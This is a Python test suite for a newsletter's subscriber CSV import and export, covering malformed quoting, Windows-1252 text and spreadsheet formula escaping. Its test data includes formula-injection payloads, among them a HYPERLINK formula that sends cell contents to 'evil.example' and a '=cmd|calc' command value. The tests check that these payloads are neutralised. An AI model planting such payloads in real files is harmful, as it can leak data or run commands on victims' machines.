"""Hostile or unusual CSV files: stray quotes, Windows-1252 text, spreadsheet formulas."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import delete, select
from sqlalchemy.orm import Session, sessionmaker

from newsletter.database import transaction
from subscribers import consent, exporter, people
from subscribers.csvfile import CsvFileError
from subscribers.importer import import_csv
from subscribers.importreport import CUT_OFF
from subscribers.models import Subscriber
from tests.subscribers.conftest import CONSENT


def _emails(sessions: sessionmaker[Session]) -> list[str]:
    with transaction(sessions) as s:
        return sorted(s.scalars(select(Subscriber.email)))


def test_a_stray_quote_before_more_rows_fails_the_whole_import(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    source = tmp_path / "stray.csv"
    rows = "".join(f"p{i}@example.org,Person {i}\n" for i in range(3, 20))
    source.write_text(f'email,name\na@example.org,Ann\nb@example.org,"The Boss\n{rows}')
    with pytest.raises(CsvFileError, match=r"line 3: a quote .* is never closed.*nothing"):
        import_csv(sessions, source, consent=CONSENT, batch_size=1)
    assert _emails(sessions) == []
    assert not (tmp_path / "stray.errors.csv").exists()


def test_a_stray_quote_before_a_large_rest_is_a_csv_error_naming_its_line(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    source = tmp_path / "big.csv"
    rows = "".join(f"p{i}@example.org,Person {i}\n" for i in range(20_000))
    source.write_text(f'email,name\na@example.org,Ann\n\nb@example.org,"The Boss\n{rows}')
    with pytest.raises(CsvFileError, match=r"line 4: a cell longer than .* never closed"):
        import_csv(sessions, source, consent=CONSENT, batch_size=1)
    assert _emails(sessions) == []


GLUED = [
    # The quote opened at line 2 is closed by the quoted cell at line 4.
    ('email,name\na@x.com,"Ann\nb@x.com,Bob\nc@x.com,"Carol"\nd@x.com,Dan\n', 2, 4),
    # ... and when that is the last row.
    ('email,name\na@x.com,"Ann\nb@x.com,Bob\nc@x.com,"Carol"\n', 2, 4),
    # A name on two lines first: the stray quote is in the next cell, on line 3.
    (
        'email;name;topics\na@x.com;"Ann\nSmith";"Peace\nb@x.com;Bob;\nc@x.com;C;"Nuclear"\n',
        3,
        5,
    ),
]


@pytest.mark.parametrize(("text", "opened", "closed"), GLUED)
def test_a_stray_quote_closed_by_a_later_cell_fails_the_whole_import(
    sessions: sessionmaker[Session], tmp_path: Path, text: str, opened: int, closed: int
) -> None:
    source = tmp_path / "glued.csv"
    source.write_text(text)
    with pytest.raises(CsvFileError, match=rf"line {opened}: a quote .* to line {closed}.*nothing"):
        import_csv(sessions, source, consent=CONSENT, batch_size=1)
    assert _emails(sessions) == []
    assert not (tmp_path / "glued.errors.csv").exists()


def test_quoted_cells_on_several_lines_that_are_not_rows_import(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    source = tmp_path / "lines.csv"
    source.write_text(
        'email,name\na@x.com,"Ann\n(work: ann@work.example, mornings)"\n'
        'b@x.com,"Flat 2,\n12 High St, London"\nc@x.com,"Carol"\n'
    )
    summary = import_csv(sessions, source, consent=CONSENT)
    assert summary.added == 3 and not summary.skipped
    with transaction(sessions) as s:
        names = dict(s.execute(select(Subscriber.email, Subscriber.name)).all())
    assert names["a@x.com"] == "Ann (work: ann@work.example, mornings)"
    assert names["b@x.com"] == "Flat 2, 12 High St, London"


def test_a_quote_left_open_on_the_last_line_only_skips_that_row(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    source = tmp_path / "cut.csv"
    source.write_text('email,name\na@example.org,A\nb@example.org,"B\n\n  \n')
    summary = import_csv(sessions, source, consent=CONSENT)
    assert summary.skipped == {CUT_OFF: 1}
    assert _emails(sessions) == ["a@example.org"]


@pytest.mark.parametrize("end", ["", "\n", "\n\n"])
def test_a_quote_out_of_place_on_the_last_line_reads_as_anywhere_else(
    sessions: sessionmaker[Session], tmp_path: Path, end: str
) -> None:
    source = tmp_path / "last.csv"
    row = 'c@example.org,"Carol" Smith'
    source.write_text(f"email,name\n{row}\na@example.org,A\n{row.replace('c@', 'd@')}{end}")
    summary = import_csv(sessions, source, consent=CONSENT)
    assert summary.added == 3 and not summary.skipped
    with transaction(sessions) as s:
        names = dict(s.execute(select(Subscriber.email, Subscriber.name)).all())
    assert names["c@example.org"] == names["d@example.org"] == "Carol Smith"


def test_windows_1252_text_from_excel_keeps_its_curly_quotes_and_euro_sign(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    source = tmp_path / "excel.csv"
    text = "email,name\nob@example.org,O\u2019Brien \u201c\u20ac\u201d\nz@example.org,Zo\u00eb\n"
    source.write_bytes(text.encode("cp1252") + b"odd@example.org,A\x81B\n")
    summary = import_csv(sessions, source, consent=CONSENT)
    assert summary.encoding == "cp1252" and summary.added == 3
    with transaction(sessions) as s:
        names = dict(s.execute(select(Subscriber.email, Subscriber.name)).all())
    assert names == {
        "ob@example.org": "O\u2019Brien \u201c\u20ac\u201d",
        "z@example.org": "Zo\u00eb",
        "odd@example.org": "A\x81B",  # undefined in Windows-1252: read as Latin-1
    }


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+1 Ann", "-Bo", "@SUM(A1)"]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_exports_quote_formulas_and_import_back_unchanged(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    staff = consent.Context(form="cli:test")
    with transaction(sessions) as s:
        for i, name in enumerate(FORMULAS):
            people.add(s, f"p{i}@example.org", staff, name=name, topics=["-Left", "Ukraine"])
        people.add(s, "-dash@example.org", staff, name="Plain")
        out = tmp_path / "out.csv"
        exporter.export_csv(s, out)
    rows = _cells(out)[1:]
    assert [row[1] for row in rows] == [f"'{name}" for name in FORMULAS] + ["Plain"]
    assert rows[0][3] == "'-Left;Ukraine" and rows[-1][0] == "'-dash@example.org"
    with transaction(sessions) as s:
        s.execute(delete(Subscriber))
    summary = import_csv(sessions, out, consent=CONSENT)
    assert summary.added == 5 and not summary.skipped
    with transaction(sessions) as s:
        again = {
            p.email: (p.name, [m.name for m in people.subscribed_lists(s, p)])
            for p in s.scalars(select(Subscriber))
        }
    assert again["p0@example.org"] == (FORMULAS[0], ["-Left", "Ukraine"])
    assert again["-dash@example.org"][0] == "Plain"
    assert [again[f"p{i}@example.org"][0] for i in range(1, 4)] == FORMULAS[1:4]


def test_rejected_rows_are_written_with_formulas_quoted(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    source = tmp_path / "in.csv"
    source.write_text('email,=name,x\n=cmd|calc,"@SUM(1)","\t=1"\nok@example.org,Ok,\n')
    summary = import_csv(sessions, source, consent=CONSENT)
    assert summary.errors_path is not None
    header, row = _cells(summary.errors_path)
    assert header == ["line", "reason", "email", "'=name", "x"]
    assert row[0] == "2" and row[2:] == ["'=cmd|calc", "'@SUM(1)", "'\t=1"]
